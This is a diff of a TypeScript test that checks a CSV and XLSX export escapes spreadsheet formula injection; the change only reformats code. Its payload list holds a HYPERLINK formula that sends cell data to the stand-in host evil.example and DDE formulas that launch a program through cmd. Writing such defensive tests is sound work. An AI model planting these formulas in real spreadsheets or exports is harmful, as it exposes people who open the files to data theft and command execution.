@@ -6,7 +6,14 @@ import { parseCsv } from '../../main/core/import/csv';
 import { addEntry, openSession, setAgency } from '../export/fixture';
 
 /** RELIABILITY #10: every prefix a spreadsheet would run as a formula. */
-const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const payloads = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('export formula injection (RELIABILITY #10)', () => {
   it('escapes each dangerous first character with an apostrophe, and leaves other text alone', () => {
@@ -24,7 +31,9 @@ describe('export formula injection (RELIABILITY #10)', () => {
       await addEntry(s, 'dikecualikan', { judul: 'Rahasia', dikInformasi: payload, dikDasarHukum: payload, dikJangkaWaktu: payload });
     }
     for (const list of ['dip', 'dik'] as const) {
-      const csv = (await s.core.exports.render(exportRequestSchema.parse({ list, format: 'csv' }))).data.toString('utf8').replace(/^\uFEFF/, '');
+      const csv = (await s.core.exports.render(exportRequestSchema.parse({ list, format: 'csv' }))).data
+        .toString('utf8')
+        .replace(/^\uFEFF/, '');
       const rows = parseCsv(csv, 1000, 100) ?? [];
       const cells = rows.slice(1).flat();
       for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
@@ -38,7 +47,9 @@ describe('export formula injection (RELIABILITY #10)', () => {
       const workbook = new ExcelJS.Workbook();
       await workbook.xlsx.load(new Uint8Array(xlsx).buffer);
       const texts: string[] = [];
-      workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => texts.push(typeof cell.value === 'string' ? cell.value : JSON.stringify(cell.value))));
+      workbook.worksheets[0]?.eachRow((row) =>
+        row.eachCell((cell) => texts.push(typeof cell.value === 'string' ? cell.value : JSON.stringify(cell.value))),
+      );
       for (const payload of payloads) expect(texts).toContain(payload.trim());
     }
   });
